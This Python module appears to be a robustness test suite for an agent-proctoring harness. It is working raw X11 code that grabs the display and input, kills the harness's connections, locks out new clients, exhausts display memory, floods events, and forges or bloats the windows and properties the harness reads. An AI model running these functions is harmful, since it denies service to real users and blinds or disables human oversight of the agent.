"""Ways to use the display against whoever looks at it: raw requests of the X protocol."""

from __future__ import annotations

import os
import signal
import socket
import struct
import subprocess

from proctor.attacks.attack import attack

FOR_SEC = 40
MB = 1 << 20


class _Display:
    """A bare connection to the display."""

    def __init__(self) -> None:
        self.socket = socket.socket(socket.AF_UNIX)
        self.socket.settimeout(10)
        self.socket.connect("/tmp/.X11-unix/X1")
        self.socket.sendall(struct.pack("<BxHHHHxx", 0x6C, 11, 0, 0, 0))
        head = self._exactly(8)
        body = self._exactly(struct.unpack_from("<H", head, 6)[0] * 4)
        self.base, self.mask = struct.unpack_from("<II", body, 4)
        vendor, formats = struct.unpack_from("<H", body, 16)[0], body[21]
        (self.root,) = struct.unpack_from("<I", body, 32 + (vendor + 3) // 4 * 4 + formats * 8)
        self.next = 0

    def _exactly(self, count: int) -> bytes:
        data = b""
        while len(data) < count:
            part = self.socket.recv(count - len(data))
            if not part:
                raise ConnectionResetError
            data += part
        return data

    def new(self) -> int:
        self.next += 1
        return self.base | self.next

    def send(self, opcode: int, data: int = 0, body: bytes = b"") -> None:
        body += bytes(-len(body) % 4)
        self.socket.sendall(struct.pack("<BBH", opcode, data, 1 + len(body) // 4) + body)

    def send_big(self, opcode: int, data: int, body: bytes) -> None:
        """Send a request that is longer than the usual ones; BIG-REQUESTS must be on."""
        body += bytes(-len(body) % 4)
        self.socket.sendall(struct.pack("<BBHI", opcode, data, 0, 2 + len(body) // 4) + body)

    def extension(self, name: bytes) -> int:
        self.send(98, 0, struct.pack("<HH", len(name), 0) + name)
        while True:
            reply = self._exactly(32)
            if reply[0] == 1:
                return reply[9]

    def atom(self, name: bytes) -> int:
        self.send(16, 0, struct.pack("<HH", len(name), 0) + name)
        while True:
            reply = self._exactly(32)
            if reply[0] == 1:
                return int(struct.unpack_from("<I", reply, 8)[0])

    def sync(self) -> None:
        """Wait until the display has done everything so far."""
        self.send(43)
        while self._exactly(32)[0] != 1:
            continue

    def window(self, width: int = 100, height: int = 100, parent: int = 0) -> int:
        window = self.new()
        self.send(1, 0, struct.pack("<IIhhHHHHII", window, parent or self.root, 0, 0, width, height, 0, 1, 0, 0))
        return window

    def set_property(self, window: int, name: bytes, kind: int, width: int, data: bytes) -> None:
        atom = self.atom(name)
        per = MB // 8 * 8
        for place in range(0, max(len(data), 1), per):
            part = data[place : place + per]
            mode = 0 if place == 0 else 2
            body = struct.pack("<IIIB3xI", window, atom, kind, width, len(part) * 8 // width) + part
            self.send_big(18, mode, body)

    def big(self) -> None:
        major = self.extension(b"BIG-REQUESTS")
        self.send(major, 0)
        while self._exactly(32)[0] != 1:
            continue


def _apart(work: object) -> None:
    """Go on after the action has ended."""
    if os.fork() == 0:
        os.setsid()
        for fd in range(3):
            os.dup2(os.open("/dev/null", os.O_RDWR), fd)
        signal.alarm(FOR_SEC)
        try:
            work()  # type: ignore[operator]
            signal.pause()
        finally:
            os._exit(0)


def grab_server() -> str:
    """Grab the display and never let go, so that nobody else is answered."""

    def work() -> None:
        display = _Display()
        display.send(36)
        display.sync()
        signal.pause()

    _apart(work)
    return ""


def kill_other_clients() -> str:
    """Have the display close the connections of everybody else, the harness's too."""
    display = _Display()
    for client in range(1, 256):
        base = client << 21
        if base != display.base:
            display.send(113, 0, struct.pack("<I", base | 1))
    try:
        display.sync()
    except OSError:
        return ""
    return ""


def kill_clients_again_and_again() -> str:
    """Close everybody's connections to the display for as long as the episode goes on."""

    def work() -> None:
        display = _Display()
        while True:
            for client in range(1, 256):
                if client << 21 != display.base:
                    display.send(113, 0, struct.pack("<I", client << 21 | 1))
            display.sync()

    _apart(work)
    return ""


def detach_segments() -> str:
    """Detach the shared memory of others at the display."""
    display = _Display()
    major = display.extension(b"MIT-SHM")
    for client in range(1, 64):
        for number in range(200):
            display.send(major, 2, struct.pack("<I", client << 21 | number))
    display.socket.settimeout(5)
    display.sync()
    return ""


def free_resources_of_others() -> str:
    """Free pixmaps, graphics contexts, windows and cursors by guessing their numbers."""
    display = _Display()
    for client in range(1, 64):
        if client << 21 == display.base:
            continue
        for number in range(60):
            for opcode in (54, 60, 95, 4):
                display.send(opcode, 0, struct.pack("<I", client << 21 | number))
    display.sync()
    return ""


def huge_screen() -> str:
    """Set the screen to 16000 by 16000 pixels."""
    display = _Display()
    major = display.extension(b"RANDR")
    display.send(major, 7, struct.pack("<IHHII", display.root, 16000, 16000, 4000, 4000))
    display.sync()
    return ""


def tiny_screen() -> str:
    """Set the screen to one pixel."""
    display = _Display()
    major = display.extension(b"RANDR")
    for width, height in ((1, 1), (32, 32), (33, 17)):
        display.send(major, 7, struct.pack("<IHHII", display.root, width, height, 10, 10))
    display.sync()
    return ""


def forged_configuration() -> str:
    """Send everybody an event that says the root window is another size, and other events that are not so."""
    display = _Display()
    forged = struct.pack("<BBHIIIhhHHHBx", 22, 0, 0, display.root, display.root, 0, 0, 0, 65535, 65535, 0, 0)
    for event in (forged.ljust(32, b"\0"), *(bytes([kind]).ljust(32, b"\xff") for kind in range(2, 36))):
        for mask in (0, 1 << 17, 1 << 19, 0xFFFFFF):
            display.send(25, 0, struct.pack("<II", display.root, mask) + event)
    display.sync()
    return ""


def flood_of_events() -> str:
    """Send events to every window without end."""

    def work() -> None:
        display = _Display()
        event = struct.pack("<BBHIIIhhHHHBx", 22, 0, 0, display.root, display.root, 0, 0, 0, 800, 600, 0, 0)
        request = struct.pack("<BBH", 25, 0, 11) + struct.pack("<II", display.root, 1 << 19) + event.ljust(32, b"\0")
        while True:
            display.socket.sendall(request * 500)

    _apart(work)
    return ""


def flood_of_damage() -> str:
    """Draw without end, so that the screen is never still."""

    def work() -> None:
        display = _Display()
        context = display.new()
        display.send(55, 0, struct.pack("<III", context, display.root, 0x4 | 0x8000) + struct.pack("<II", 0xFF0000, 1))
        while True:
            display.send(70, 0, struct.pack("<IIhhHH", display.root, context, 0, 0, 1280, 720))
            display.sync()

    _apart(work)
    return ""


@attack(timeout_sec=30)
def pixmaps_without_end() -> str:
    """Have the display make pixmaps until it has no memory left."""
    display = _Display()
    for _ in range(120):  # 16 MB each, filled so that they are really there
        pixmap, context = display.new(), display.new()
        display.send(53, 24, struct.pack("<IIHH", pixmap, display.root, 2048, 2048))
        display.send(55, 0, struct.pack("<III", context, pixmap, 0x4) + struct.pack("<I", 0x123456))
        display.send(70, 0, struct.pack("<IIhhHH", pixmap, context, 0, 0, 2048, 2048))
        display.send(60, 0, struct.pack("<I", context))
        try:
            display.sync()
        except OSError:
            return ""
    _apart(signal.pause)
    return ""


@attack(timeout_sec=30)
def segments_of_the_display() -> str:
    """Have the display make shared segments and paint into them by itself, past the agent's own limit."""
    display = _Display()
    major = display.extension(b"MIT-SHM")
    picture = 1280 * 720 * 4
    for _ in range(60):  # 32 MB each
        segment = display.new()
        display.send(major, 7, struct.pack("<IIBxxx", segment, 32 * MB, 0))
        try:
            data, fds, _, _ = socket.recv_fds(display.socket, 32, 4)
        except OSError:
            return ""
        if not data or data[0] != 1 or not fds:
            return ""
        os.close(fds[0])
        for offset in range(0, 32 * MB - picture, picture):
            area = struct.pack("<IhhHHIBxxxII", display.root, 0, 0, 1280, 720, 0xFFFFFFFF, 2, segment, offset)
            display.send(major, 4, area)
            display._exactly(32)  # one answer to each
        try:
            display.sync()
        except OSError:
            return ""
    _apart(signal.pause)
    return ""


@attack(timeout_sec=30)
def many_connections() -> str:
    """Open as many connections to the display as it takes."""

    def work() -> None:
        kept = []
        while True:
            try:
                kept.append(_Display())
            except OSError:
                signal.pause()

    _apart(work)
    return ""


@attack(timeout_sec=30)
def half_open_connections() -> str:
    """Open connections to the display that never say who they are."""

    def work() -> None:
        kept = []
        while True:
            attempt = socket.socket(socket.AF_UNIX)
            attempt.settimeout(2)
            try:
                attempt.connect("/tmp/.X11-unix/X1")
            except OSError:
                signal.pause()
            kept.append(attempt)

    _apart(work)
    return ""


@attack(timeout_sec=30)
def huge_properties() -> str:
    """Set properties of fifty megabytes where the harness reads: the list of windows, names, the active window."""
    display = _Display()
    display.big()
    window = display.window()
    for name in (b"_NET_CLIENT_LIST", b"_NET_CLIENT_LIST_STACKING", b"_NET_ACTIVE_WINDOW", b"_NET_SUPPORTING_WM_CHECK"):
        display.set_property(display.root, name, 33, 32, struct.pack("<I", window) * (6 * MB // 4))
    for name in (b"WM_NAME", b"_NET_WM_NAME", b"WM_CLASS", b"_NET_WM_PID", b"_NET_WM_WINDOW_TYPE", b"WM_STATE"):
        display.set_property(window, name, 31, 8, b"x" * (24 * MB))
    display.send(8, 0, struct.pack("<I", window))
    display.sync()
    _apart(signal.pause)
    return ""


@attack(timeout_sec=30)
def many_windows() -> str:
    """Show ten thousand windows, many of them named as if they were the harness's."""
    display = _Display()
    for number in range(10_000):
        window = display.window(10 + number % 50, 10)
        display.send(2, 0, struct.pack("<III", window, 0x200, 1))  # without the window manager
        display.send(8, 0, struct.pack("<I", window))
    display.sync()
    _apart(signal.pause)
    return ""


@attack(timeout_sec=30)
def deep_windows() -> str:
    """Nest two thousand windows in one another."""
    display = _Display()
    parent = display.root
    for _ in range(2000):
        parent = display.window(100, 100, parent)
        display.send(8, 0, struct.pack("<I", parent))
    display.sync()
    _apart(signal.pause)
    return ""


def lying_properties() -> str:
    """Claim windows that are not there, types that do not fit, and process numbers of others."""
    display = _Display()
    display.big()
    window = display.window()
    display.send(8, 0, struct.pack("<I", window))
    for name, kind, width, data in (
        (b"_NET_CLIENT_LIST", 33, 8, b"odd"),
        (b"_NET_CLIENT_LIST_STACKING", 33, 16, b"\xff\xff" * 9),
        (b"_NET_ACTIVE_WINDOW", 33, 32, b"\xff\xff\xff\xff"),
        (b"_NET_WORKAREA", 6, 8, b""),
    ):
        display.set_property(display.root, name, kind, width, data)
    for name, kind, width, data in (
        (b"_NET_WM_NAME", 31, 8, b"\xff\xfe\xed\xa0\x80\0\x1b[2J"),
        (b"_NET_WM_PID", 6, 32, struct.pack("<I", 1)),
        (b"WM_CLIENT_MACHINE", 31, 8, b"\xff" * 300),
        (b"_NET_FRAME_EXTENTS", 6, 32, b"\xff\xff\xff\xff" * 4),
        (b"_GTK_FRAME_EXTENTS", 6, 32, b"\xff\xff\xff\x7f" * 4),
    ):
        display.set_property(window, name, kind, width, data)
    display.sync()
    _apart(signal.pause)
    return ""


def grab_input() -> str:
    """Grab pointer and keyboard and never let go."""

    def work() -> None:
        display = _Display()
        display.send(26, 1, struct.pack("<IHBBIII", display.root, 0, 1, 1, 0, 0, 0))
        display.send(31, 1, struct.pack("<IIBBxx", display.root, 0, 1, 1))
        # Frozen by a synchronous grab: no event goes on to anybody.
        display.send(26, 1, struct.pack("<IHBBIII", display.root, 0, 0, 0, 0, 0, 0))
        display.send(31, 1, struct.pack("<IIBBxx", display.root, 0, 0, 0))
        display.sync()
        signal.pause()

    _apart(work)
    return ""


def change_the_keyboard() -> str:
    """Map every key to nothing."""
    display = _Display()
    for first in range(8, 248, 60):
        display.send(100, 60, struct.pack("<BBxx", first, 2) + bytes(60 * 2 * 4))
    display.send(118, 2, bytes(16))  # no modifiers
    display.sync()
    return ""


def shut_others_out() -> str:
    """Turn access control on and remove every host, so that nobody can connect any more."""
    display = _Display()
    display.send(111, 1)
    display.sync()
    return ""


def blank_the_screen() -> str:
    """Cover the screen with a window that nothing can be put above."""
    display = _Display()

    def work() -> None:
        mine = _Display()
        window = mine.window(4000, 4000)
        mine.send(2, 0, struct.pack("<III", window, 0x200, 1))
        mine.send(8, 0, struct.pack("<I", window))
        while True:
            mine.send(12, 0, struct.pack("<IHxxI", window, 0x40, 0))
            mine.sync()

    display.sync()
    _apart(work)
    return ""


def nonsense_requests() -> str:
    """Send the display requests of random bytes."""
    import random

    chance = random.Random(12)
    for _ in range(300):
        try:
            display = _Display()
            for _ in range(20):
                body = chance.randbytes(4 * chance.randrange(12))
                opcode = chance.randrange(256)
                if opcode not in (36, 113):
                    display.send(opcode, chance.randrange(256), body)
            display.socket.close()
        except OSError:
            continue
    return ""


def clipboard_switched_back_on() -> str:
    """Have the display share its clipboard with whoever watches, and refuse the pointer of who takes over."""
    got = []
    for setting in ("SendCutText=1", "AcceptCutText=1", "AcceptPointerEvents=0"):
        subprocess.run(["vncconfig", "-display", ":1", "-set", setting], capture_output=True, check=False)
        name, _, value = setting.partition("=")
        asked = ["vncconfig", "-display", ":1", "-get", name]
        if subprocess.run(asked, capture_output=True, text=True, check=False).stdout.strip() == value:
            got.append(setting)
    return ", ".join(got)
